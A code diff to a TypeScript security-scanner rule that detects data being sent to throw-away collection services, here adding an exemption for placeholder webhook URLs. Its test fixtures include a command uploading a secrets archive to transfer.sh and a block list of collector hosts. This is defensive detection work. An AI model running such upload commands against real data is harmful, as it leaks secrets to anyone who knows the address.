@@ -1,4 +1,5 @@
 import type { FileCheck } from '../../check.ts';
+import { PLACEHOLDER_PATH } from '../../knowledge/shady-hosts.ts';
 
 /** Services that keep whatever is sent to them for anybody who knows the address. */
 const COLLECTORS = [
@@ -45,6 +46,8 @@ const USED =
 const DEFENCE =
   /\b(?:block(?:ed|list)?|deny|denied|disallow|suspicious|malicious|indicator|ioc|detect|forbidden|blacklist)\b/i;
 
+const PLACEHOLDER = new RegExp(`^(?:https?:\\/\\/)?[\\w.-]+${PLACEHOLDER_PATH}`, 'i');
+
 export const check: FileCheck = {
   id: 'network-exfil-service',
   title: 'Sends data to a throw-away collection service',
@@ -66,6 +69,7 @@ export const check: FileCheck = {
       { 'run.sh': 'curl --upload-file secrets.tar «https://transfer.sh/s.tar»\n' },
     ],
     good: [
+      { 'test-hook.sh': 'curl -X POST https://webhook.site/your-uuid -d "{}"\n' },
       { 'filter.py': 'BLOCKED_HOSTS = ["webhook.site", "oastify.com"]  # suspicious\n' },
       { 'read.js': "import { open } from 'profile.io';\n" },
       { 'site.html': '<a href="https://discord.com/invite/abc">chat</a>\n' },
@@ -79,7 +83,7 @@ export const check: FileCheck = {
         const nearby = window.text.slice(Math.max(0, match.index - 160), match.index + 200);
         // A hook with its key is only there to be used.
         const isUsed = USED.test(nearby) || match[0].includes('/webhooks/');
-        if (DEFENCE.test(line) || !isUsed || language === 'markdown') continue;
+        if (DEFENCE.test(line) || PLACEHOLDER.test(match[0]) || !isUsed || language === 'markdown') continue;
         yield {
           at: window.spanOf(match),
           message: `Data is sent to ${hostOf(match[0])}, where anybody may collect it.`,
